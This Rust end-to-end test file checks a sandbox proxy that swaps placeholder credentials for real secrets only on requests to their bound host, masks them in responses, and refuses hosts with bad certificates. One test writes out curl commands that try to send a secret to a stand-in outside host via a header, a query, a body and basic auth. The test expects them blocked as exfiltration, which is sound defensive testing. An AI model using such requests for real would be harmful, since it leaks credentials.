//! Credentials that are put in on the wire, and where they are not.

use e2e::{Case, Verdict, ensure};
use http::header::{AUTHORIZATION, HeaderName, HeaderValue};
use http::{Request, StatusCode};
use hyper::body::Incoming;
use network::{Authority, Handler, How, NAME, Named, Net, answer, handler};

pub(crate) const CASES: &[Named] = &[
    ("a_value_is_put_in_masked_in_answers_and_replaced_at_once", put_in),
    ("a_placeholder_on_its_way_elsewhere_is_stopped", elsewhere),
    ("a_host_that_cannot_prove_its_name_gets_nothing", unproved),
];

/// Says in header and body what it was shown.
fn mirror() -> Handler {
    handler(|request: Request<Incoming>| async move {
        let shown = request.headers().get(AUTHORIZATION).cloned();
        let shown = shown.unwrap_or_else(|| HeaderValue::from_static("nothing"));
        let mut response = answer(StatusCode::OK, [b"you said ", shown.as_bytes(), b"\n"].concat());
        response.headers_mut().insert(HeaderName::from_static("x-shown"), shown);
        response
    })
}

fn shown(site: &network::Site) -> Vec<String> {
    let field = |one: &network::Seen| Some(one.headers.get(AUTHORIZATION)?.to_str().ok()?.to_owned());
    site.seen().iter().filter_map(field).collect()
}

fn put_in(net: &Net) -> Case {
    let host = "api.kept.example";
    let site = net.site(host, How::default(), mirror())?;
    net.allow(&["api.kept.example:443"])?;
    net.keep("kept", host, "KEPT", "first-value-of-the-secret")?;
    let ask = format!("curl -sS -m 60 -D- -H \"Authorization: Bearer $KEPT\" https://{host}/");
    // One session goes on while the value is replaced, and then removed.
    let folder = net.shared();
    let script = format!(
        "echo $KEPT; {ask}; touch asked; while [ ! -e replaced ]; do sleep 0.1; done; {ask} >/dev/null; rm asked; \
         while [ ! -e removed ]; do sleep 0.1; done; {ask} -o /dev/null -w '%{{http_code}}'; rm replaced removed"
    );
    let said = std::thread::scope(|scope| {
        let session = scope.spawn(|| net.guest(&script));
        let control = || -> Case {
            e2e::eventually("the first request", || folder.join("asked").exists())?;
            net.keep("kept", host, "KEPT", "second-value-of-the-secret")?;
            std::fs::write(folder.join("replaced"), "")?;
            e2e::eventually("the second request", || !folder.join("asked").exists())?;
            net.viv_ok(&["secret", "rm", "-f", "kept"])?;
            std::fs::write(folder.join("removed"), "")?;
            Ok(())
        };
        let controlled = control();
        // Whatever went wrong, the session must end.
        for name in ["replaced", "removed"] {
            if controlled.is_err() {
                std::fs::write(folder.join(name), "")?;
            }
        }
        let said = session.join().map_err(|_| Verdict::Wrong("the session panicked".into()))?;
        controlled.and(said)
    })?;
    let text = said.text();
    let placeholder = text.lines().next().unwrap_or_default();
    ensure(placeholder.len() > 8 && !text.contains("value-of-the-secret"), &text)?;
    let answered = [format!("x-shown: Bearer {placeholder}"), "you said Bearer ".to_owned()];
    ensure(answered.iter().all(|line| text.contains(line.as_str())), &text)?;
    let expected = ["first", "second"].map(|which| format!("Bearer {which}-value-of-the-secret"));
    // Without the secret its placeholder is a word like any other, or refused; the value is not there.
    let all = shown(&site);
    ensure(all.get(..2) == Some(&expected), format!("{all:?}"))?;
    ensure(all.iter().skip(2).all(|value| value == &format!("Bearer {placeholder}")), format!("{all:?}"))
}

fn elsewhere(net: &Net) -> Case {
    let (bound, other) = ("bound.example", "elsewhere.example");
    let _site = net.site(bound, How::default(), mirror())?;
    let trap = net.site(other, How::default(), mirror())?;
    let plain =
        net.site_at(bound, net.address(false), How { port: Some(80), alpn: &[], six: false }, mirror())?;
    net.names.addresses("plain.elsewhere.example", &[plain.address.ip()]);
    net.keep("stray", bound, "STRAY", "value-that-strays-nowhere")?;
    net.allow(&["bound.example"])?;
    net.allow(&["--path", "/**", "elsewhere.example:443"])?;
    net.allow(&["--path", "/**", "plain.elsewhere.example:80"])?;
    let code = "curl -sS -m 60 -o /dev/null -w '%{http_code} '";
    let said = net.guest_ok(&format!(
        "{code} -H \"X-Key: $STRAY\" https://{other}/; {code} https://{other}/?k=$STRAY; {code} -d \"data=$STRAY\" https://{other}/; \
         {code} -u user:$STRAY https://{other}/; {code} -H \"X-Key: $STRAY\" http://plain.elsewhere.example/; {code} https://{other}/"
    ))?;
    net.viv_ok(&["secret", "rm", "-f", "stray"])?;
    ensure(said == "403 403 403 403 403 200", &said)?;
    let seen = format!("{:?} {:?}", trap.seen(), plain.seen());
    ensure(!seen.contains("value-that-strays"), seen)?;
    // A body is streamed: its request may have begun.
    ensure(
        plain.seen().is_empty() && trap.seen().iter().all(|one| one.target.query().is_none()),
        "it got there",
    )?;
    net.recorded(other, "an attempt to get it out", |record| record["kind"] == "Exfiltration")?;
    let log = net.viv_ok(&["policy", "log", "--json", NAME])?;
    ensure(!log.contains("value-that-strays"), "the value is in the log")
}

fn unproved(net: &Net) -> Case {
    let host = "impostor.example";
    let stranger = Authority::new("somebody else's root").map_err(|error| network::wrong(&error))?;
    let certificates = [stranger.certify(&[host]), net.authority.certify(&["another.example"])];
    net.keep("proof", host, "PROOF", "value-for-the-true-one")?;
    net.allow(&["impostor.example:443"])?;
    for certificate in certificates {
        let certificate = certificate.map_err(|error| network::wrong(&error))?;
        let site = net.site_with(host, &certificate, mirror())?;
        let said = net.guest_ok(&format!(
            "curl -sS -m 60 -o /dev/null -w '%{{http_code}}' -H \"Authorization: $PROOF\" https://{host}/"
        ))?;
        ensure(said == "502", &said)?;
        ensure(site.connections() > 0 && site.seen().is_empty(), format!("{:?}", site.seen()))?;
    }
    net.viv_ok(&["secret", "rm", "-f", "proof"]).map(|_| ())
}
